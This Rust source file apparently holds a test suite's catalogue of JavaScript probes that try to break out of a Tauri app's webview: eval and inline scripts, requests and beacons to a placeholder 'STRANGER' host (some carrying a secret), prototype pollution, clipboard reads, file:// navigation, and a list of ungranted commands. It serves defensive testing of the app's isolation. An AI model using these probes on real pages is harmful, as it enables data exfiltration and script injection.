//! Ways out of a page, as scripts. `STRANGER` stands for an HTTP address, `PORT` for its port. A script that reaches
//! `window.__out = 1` has run code, or read something, that the page must not.

/// Ways that leave the page where it is.
pub const INSIDE: &[(&str, &str)] = &[
    ("eval", "try { (0, eval)('window.__out = 1') } catch {}"),
    ("new Function", "try { new Function('window.__out = 1')() } catch {}"),
    ("a text for setTimeout", "try { setTimeout('window.__out = 1', 0) } catch {}"),
    ("inline script", "add('script', {}, 'window.__out = 1')"),
    ("inline module", "add('script', { type: 'module' }, 'window.__out = 1')"),
    ("inline handler", "html('<img src=x onerror=\"window.__out = 1\">')"),
    ("inline handler in SVG", "html('<svg onload=\"window.__out = 1\"></svg>')"),
    ("script from data:", "add('script', { src: 'data:text/javascript,window.__out=1' })"),
    ("script from blob:", "add('script', { src: blob('window.__out = 1', 'text/javascript') })"),
    ("script from a stranger", "add('script', { src: 'STRANGER/script.js' })"),
    ("import from a stranger", "import('STRANGER/module.js').catch(() => 0)"),
    ("import from data:", "import('data:text/javascript,window.__out=1').catch(() => 0)"),
    ("worker from blob:", "try { new Worker(blob('postMessage(1)')).onmessage = () => { window.__out = 1 } } catch {}"),
    ("worker from a stranger", "try { new Worker('STRANGER/worker.js') } catch {}"),
    ("shared worker", "try { new SharedWorker('STRANGER/worker.js') } catch {}"),
    (
        "service worker",
        "try { navigator.serviceWorker.register('/sw.js').then(() => { window.__out = 1 }, () => 0) } catch {}",
    ),
    ("fetch", "fetch('STRANGER/fetch').catch(() => 0)"),
    (
        "fetch that outlives the page",
        "fetch('STRANGER/keep', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'k' }).catch(() => 0)",
    ),
    ("XMLHttpRequest", "try { const x = new XMLHttpRequest(); x.open('GET', 'STRANGER/xhr'); x.send() } catch {}"),
    ("WebSocket", "try { new WebSocket('ws://127.0.0.1:PORT/socket') } catch {}"),
    ("EventSource", "try { new EventSource('STRANGER/events') } catch {}"),
    ("beacon", "try { navigator.sendBeacon('STRANGER/beacon', 'k') } catch {}"),
    (
        "WebRTC",
        "try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
         p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}",
    ),
    ("WebTransport", "try { new WebTransport('https://127.0.0.1:PORT/') } catch {}"),
    ("image", "add('img', { src: 'STRANGER/image' })"),
    ("image without an element", "new Image().src = 'STRANGER/image'"),
    ("background", "document.body.style.backgroundImage = 'url(STRANGER/background)'"),
    ("style element", "add('style', {}, '@import url(STRANGER/import); body { background: url(STRANGER/style) }')"),
    (
        "constructed style sheet",
        "try { const s = new CSSStyleSheet(); s.replaceSync('body { background: url(STRANGER/sheet) }');
         document.adoptedStyleSheets = [s] } catch {}",
    ),
    ("font", "try { new FontFace('q', 'url(STRANGER/font)').load().catch(() => 0) } catch {}"),
    ("style sheet", "add('link', { rel: 'stylesheet', href: 'STRANGER/style.css' })"),
    ("prefetch", "add('link', { rel: 'prefetch', href: 'STRANGER/prefetch' })"),
    ("preload", "add('link', { rel: 'preload', as: 'image', href: 'STRANGER/preload' })"),
    ("modulepreload", "add('link', { rel: 'modulepreload', href: 'STRANGER/modulepreload' })"),
    ("preconnect", "add('link', { rel: 'preconnect', href: 'STRANGER' })"),
    ("dns-prefetch", "add('link', { rel: 'dns-prefetch', href: 'STRANGER' })"),
    ("icon", "add('link', { rel: 'icon', href: 'STRANGER/icon' })"),
    ("manifest", "add('link', { rel: 'manifest', href: 'STRANGER/manifest' })"),
    ("prerender", "add('link', { rel: 'prerender', href: 'STRANGER/prerender' })"),
    ("audio", "add('audio', { src: 'STRANGER/audio', autoplay: '1' })"),
    ("video", "add('video', { src: 'STRANGER/video', poster: 'STRANGER/poster' })"),
    ("subtitles", "html('<video><track default src=\"STRANGER/track\"></video>')"),
    ("object", "add('object', { data: 'STRANGER/object' })"),
    ("embed", "add('embed', { src: 'STRANGER/embed' })"),
    ("SVG", "html('<svg><use href=\"STRANGER/use#a\"/><image href=\"STRANGER/svg-image\"/></svg>')"),
    ("frame", "add('iframe', { src: 'STRANGER/frame' })"),
    (
        "frame with a text",
        "add('iframe', { srcdoc: '<script>parent.__out = 1</' + 'script><img src=\"STRANGER/srcdoc\">' })",
    ),
    ("frame from data:", "add('iframe', { src: 'data:text/html,<img src=STRANGER/frame-data>' })"),
    ("frame from javascript:", "add('iframe', { src: 'javascript:parent.__out = 1' })"),
    (
        "form into a frame",
        "add('iframe', { name: 'target' });
         add('form', { action: 'STRANGER/form-frame', target: 'target' }).submit()",
    ),
    ("location of a frame", "try { add('iframe', {}).contentWindow.location = 'STRANGER/frame-location' } catch {}"),
    (
        "reading the isolation frame",
        "try { if (document.getElementById('__tauri_isolation__').contentWindow.document) window.__out = 1 } catch {}",
    ),
    ("ping of a link", "add('a', { href: '#x', ping: 'STRANGER/ping' }).click()"),
    (
        "report of a policy",
        "add('meta', { 'http-equiv': 'Content-Security-Policy',
         content: \"img-src 'none'; report-uri STRANGER/report\" }); new Image().src = '/x.png'",
    ),
    ("base", "add('base', { href: 'STRANGER/' }); new Image().src = 'relative.png'"),
    ("download", "add('a', { href: 'STRANGER/download', download: 'x' }).click()"),
    ("form GET", "add('form', { action: 'STRANGER/form' }).submit()"),
    ("form POST", "add('form', { action: 'STRANGER/form', method: 'post' }).submit()"),
    ("Object.prototype", "try { Object.prototype.polluted = 1 } catch {} if ({}.polluted) window.__out = 1"),
    ("__proto__", "try { ({}).__proto__.polluted = 1 } catch {} if ({}.polluted) window.__out = 1"),
    (
        "toJSON for everybody",
        "try { Object.defineProperty(Object.prototype, 'toJSON', { value() { return 1 } }) } catch {}
         if ({}.toJSON) window.__out = 1",
    ),
    (
        "another prototype",
        "try { Object.setPrototypeOf(Object.prototype, { x: 1 }) } catch {} if ({}.x) window.__out = 1",
    ),
    (
        "reading the clipboard",
        "try { navigator.clipboard.readText().then(() => { window.__out = 1 }, () => 0) } catch {}",
    ),
    (
        "pasting by a command",
        "const t = add('textarea', {}); t.focus(); if (document.execCommand('paste') && t.value) window.__out = 1",
    ),
];

/// Ways that try to take the page, or another window, elsewhere.
pub const ELSEWHERE: &[(&str, &str)] = &[
    ("location", "location = 'STRANGER/location?secret=1'"),
    ("location.assign", "location.assign('STRANGER/assign')"),
    ("location.replace", "location.replace('STRANGER/replace')"),
    ("link", "add('a', { href: 'STRANGER/link' }).click()"),
    ("meta refresh", "add('meta', { 'http-equiv': 'refresh', content: '0;url=STRANGER/refresh' })"),
    ("window.open in place", "window.open('STRANGER/open', '_self')"),
    ("link to a new window", "add('a', { href: 'STRANGER/blank', target: '_blank' }).click()"),
    ("window.open", "window.open('STRANGER/open')"),
    (
        "location of the isolation frame",
        "try { document.getElementById('__tauri_isolation__').src = 'STRANGER/i' } catch {}",
    ),
    ("javascript:", "location = 'javascript:void(window.__out = 1)'"),
    ("link to javascript:", "add('a', { href: 'javascript:window.__out = 1' }).click()"),
    ("data:", "location = 'data:text/html,<img src=STRANGER/data>'"),
    ("blob:", "location = blob('<img src=\"STRANGER/blob\">', 'text/html')"),
    ("file:", "location = 'file:///etc/hostname'"),
    ("another scheme", "location = 'other-scheme://127.0.0.1:PORT/'"),
    ("a host like ours", "location = 'http://localhost:PORT/'"),
    ("our scheme, another host", "location = 'tauri://stranger.example/'"),
    (
        "up from a frame",
        "const f = add('iframe', { srcdoc: '<a id=q target=_top href=STRANGER/top>x</a>' });
         f.onload = () => f.contentDocument.getElementById('q').click()",
    ),
    ("history", "try { history.pushState(0, '', 'STRANGER/history') } catch {}"),
    (
        "a document written anew",
        "document.open(); document.write('<meta http-equiv=refresh content=\"0;url=STRANGER/written\">'); document.close()",
    ),
];

/// What the probes are written with.
pub const TOOLS: &str = "
    const add = (tag, attributes, text) => {
        const made = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
        if (text) made.textContent = text;
        (['meta', 'base', 'link', 'style', 'script'].includes(tag) ? document.head : document.body).append(made);
        return made;
    };
    const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
    const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
";

/// Commands that the main window was never granted: the other window's, those of plugins, and one that does not exist.
pub const NOT_GRANTED: &[&str] = &[
    "take_revealed",
    "close_reveal",
    "nonsense",
    "plugin:event|listen",
    "plugin:event|emit",
    "plugin:window|close",
    "plugin:window|create",
    "plugin:webview|create_webview_window",
    "plugin:clipboard-manager|read_text",
    "plugin:clipboard-manager|write_text",
    "plugin:dialog|open",
    "plugin:dialog|save",
    "plugin:path|resolve_directory",
    "plugin:app|version",
    "plugin:window-state|save_window_state",
    "plugin:resources|close",
];
